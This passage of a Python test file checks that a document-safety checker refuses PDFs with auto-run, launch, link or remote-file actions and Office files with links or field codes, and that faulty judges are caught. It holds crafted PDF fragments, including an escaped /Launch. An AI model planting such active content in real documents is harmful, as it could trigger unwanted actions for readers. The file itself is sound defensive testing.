    "a named place": pdf(catalog="/OpenAction(x)/Names<</Dests<</Names[(x)<</D[3 0 R/Fit]>>]>>>>"),
    "an outline": pdf(f"<</Title(x)/A{GO}>>"),
    "a letter": pdf(page="/Annots[<</Subtype/Link/A<</S/URI/URI(mailto:a@un.org)>>>>]"),
    "a base": pdf(catalog="/URI<</Base(https://www.un.org/)>>"),
    "a query": pdf(page="/Annots[<</A<</S/GoToR/F(annex.pdf)>>>>]"),
    "brackets in a string": pdf("<</Title(a \\( b (c) /Launch >>)>>"),
}


@pytest.mark.parametrize("case", PDFS)
def test_row_125_a_pdf_that_acts_is_refused_however_it_is_written(case: str) -> None:
    answer = verdict(PDFS[case], "pdf")
    assert (
        answer["refused"] in ("share", "active", "submits", "enclosed", "command", "damaged"),
        "fault" in answer,
    ) == (True, False)


@pytest.mark.parametrize("case", HONEST_PDFS)
def test_row_125_a_pdf_that_only_leads_on_is_taken(case: str) -> None:
    assert verdict(HONEST_PDFS[case], "pdf")["refused"] == ""


@pytest.mark.parametrize(("action", "word"), [(GO, "share"), ("<</S/GoTo/D[3 0 R/Fit]>>", "")])
def test_row_125_a_pdf_that_is_encrypted_without_a_password_is_read(action: str, word: str) -> None:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf(catalog="/OpenAction" + action)))
    writer.encrypt("", "owner", algorithm="RC4-128")
    assert verdict(sample_files.written(writer), "pdf")["refused"] == word


# --- Whether these tests see a fault --------------------------------------------------------------------------


def test_row_124_a_judge_that_looks_at_no_use_of_a_link_is_seen(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(judging("office_relations").Relations, "clicked_by", lambda relations, part: {})
    body, _word = USES["a template"]
    parts = {"word/x.xml": element(body), "word/_rels/x.xml.rels": relations(link("hyperlink", EVIL))}
    assert refused(parts) == ""


def test_row_124_a_judge_that_knows_what_to_refuse_only_is_seen(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(judging("field_codes"), "HARMLESS", {"PRINT"})
    assert refused({"word/footer1.xml": text_part(field(code("PRINT 27")))}) == ""


def test_row_125_a_reader_that_takes_one_of_two_entries_is_seen(monkeypatch: pytest.MonkeyPatch) -> None:
    group = judging("pdf_syntax").PdfGroup
    monkeypatch.setattr(
        group, "values", lambda it, *keys: [value for key, value in dict(it.pairs()).items() if key in keys]
    )
    assert verdict(PDFS["the first of two"], "pdf")["refused"] == ""
